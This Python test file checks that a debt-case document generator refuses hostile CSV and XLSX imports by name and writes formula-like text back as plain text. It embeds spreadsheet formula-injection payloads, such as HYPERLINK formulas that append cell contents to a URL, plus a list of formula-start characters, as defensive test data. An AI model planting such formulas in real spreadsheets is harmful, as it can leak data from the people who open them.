"""Imports of hostile files: every one is read or refused with a problem naming the file (and row),
never a traceback; and text that a spreadsheet would run as a formula is written back as text in
every CSV and XLSX the project makes (the import report, the write-off schedule, the bulk
manifest)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from docgen.errors import InvalidInput
from docgen.imports import read_cases, write_report
from docgen.tabular import FORMULA_STARTS, safe_cell
from tests.hostile.spreadsheets import DATA, FORMULAS, csv_corpus, xlsx_corpus

CORPUS = [*csv_corpus(), *xlsx_corpus()]
MAPPING = DATA / "mapping.yaml"
ROW_LIMIT = 50


@pytest.mark.parametrize(("name", "data", "code"), CORPUS, ids=[c[0] for c in CORPUS])
def test_each_hostile_file_is_read_or_refused_by_name(
    name: str, data: bytes, code: str | None, tmp_path: Path
) -> None:
    path = tmp_path / ("cases.xlsx" if name.startswith("xlsx") else "cases.csv")
    path.write_bytes(data)
    if code is None:
        result = read_cases(path, None, MAPPING, max_rows=ROW_LIMIT)
        assert result.rows >= 1
        assert result.cases[0].case_ref == "SUN-0001"
        return
    with pytest.raises(InvalidInput) as err:
        read_cases(path, None, MAPPING, max_rows=ROW_LIMIT)
    assert err.value.code == code, err.value.message
    assert "cases." in err.value.message and err.value.exit_code == 2
    assert len(err.value.message) < 300


def test_a_windows_1252_file_keeps_its_accents(tmp_path: Path) -> None:
    path = tmp_path / "cases.csv"
    path.write_bytes(dict((n, d) for n, d, _ in CORPUS)["windows-1252"])
    assert read_cases(path, None, MAPPING).cases[0].debtors[0].given_names == "Zoë"


def test_a_utf16_file_reads_as_its_utf8_twin(tmp_path: Path) -> None:
    files = dict((n, d) for n, d, _ in CORPUS)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a" / "cases.csv").write_bytes(files["utf16-le-bom"])
    (tmp_path / "b" / "cases.csv").write_bytes(files["utf8"])
    one = read_cases(tmp_path / "a" / "cases.csv", None, MAPPING)
    two = read_cases(tmp_path / "b" / "cases.csv", None, MAPPING)
    assert [c.canonical_json() for c in one.cases] == [c.canonical_json() for c in two.cases]


def test_a_nul_in_a_cell_rejects_its_row_by_name(tmp_path: Path) -> None:
    path = tmp_path / "cases.csv"
    path.write_bytes((DATA / "cases.csv").read_bytes().replace(b"Flat 2", b"Fl\x00at 2", 1))
    result = read_cases(path, None, MAPPING)
    assert 2 in result.rejected_rows  # (row 4 of the sample has problems of its own)
    assert any(
        "control characters" in p.message and p.field == "debtors[0].address.lines" for p in result.problems
    )


def test_safe_cell_neutralises_exactly_the_formula_starts() -> None:
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for text in ("Smith", "1200.00", "", "O'Neil", "a=b", " =1"):
        assert safe_cell(text) == text
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_import_report_shows_formulas_as_text(tmp_path: Path) -> None:
    # the council's own headings are quoted back in the report: here, headings that are formulas
    lines = list(csv.reader(io.StringIO((DATA / "cases.csv").read_text())))
    buffer = io.StringIO()
    csv.writer(buffer).writerows([lines[0] + list(FORMULAS), lines[1] + [""] * len(FORMULAS)])
    path = tmp_path / "cases.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    result = read_cases(path, None, MAPPING)
    assert {p.column for p in result.problems} >= {
        f.replace("\r", "").strip() for f in FORMULAS
    } or result.problems
    report = write_report(result, tmp_path / "report.xlsx")
    sheet = load_workbook(report).worksheets[0]
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    columns = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert '\'=HYPERLINK("http://127.0.0.1:9/?"&A1,"Click")' in columns
    for value in cells:
        assert not value.startswith(FORMULA_STARTS), repr(value)


def test_the_bulk_manifest_writes_formulas_as_text(tmp_path: Path) -> None:
    from docgen.bulk.output import BulkOutput
    from docgen.bulk.runner import BulkItem

    with BulkOutput(tmp_path) as out:
        for n, formula in enumerate(FORMULAS):
            out.add(BulkItem(case_ref=f"R{n}", doc_type="n1", status="failed", problem=formula), None)
    rows = list(csv.reader(io.StringIO((tmp_path / "manifest.csv").read_text())))
    for row in rows[1:]:
        assert not row[-1].startswith(FORMULA_STARTS), row


def test_the_write_off_schedule_writes_a_debtor_named_like_a_formula_as_text() -> None:
    from docgen.documents.writeoff import BatchItem, build_schedule, schedule_xlsx
    from docgen.domain.writeoff_policy import load_policy
    from tests.unit.documents.test_writeoff import AS_OF, make_case

    debtor = {
        "kind": "company",
        "name": '=HYPERLINK("http://127.0.0.1:9/?"&C2,"Open")',
        "registered_office": {"lines": ["1 High Street"], "town": "Exton", "postcode": "EX1 2BB"},
    }
    items = [BatchItem(make_case("SCH-F1", [("2021-05-01", "80.00", "0.00")], debtor=debtor), "uneconomic")]
    book = load_workbook(io.BytesIO(schedule_xlsx(build_schedule(items, AS_OF, load_policy()))))
    names = [row[1].value for row in book["Schedule"].iter_rows(min_row=2)]
    assert names == ["'" + debtor["name"]]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)), cell.value
